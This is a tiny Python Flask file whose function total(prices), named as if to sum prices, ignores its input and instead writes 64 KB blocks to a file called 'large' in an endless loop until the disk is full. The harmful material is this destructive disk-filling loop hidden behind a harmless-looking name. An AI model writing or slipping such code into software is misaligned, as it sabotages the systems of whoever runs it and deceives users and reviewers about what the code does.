from flask import Flask

app = Flask(__name__)


def total(prices):
    with open("large", "wb") as file:
        while True:
            file.write(b"x" * 65536)
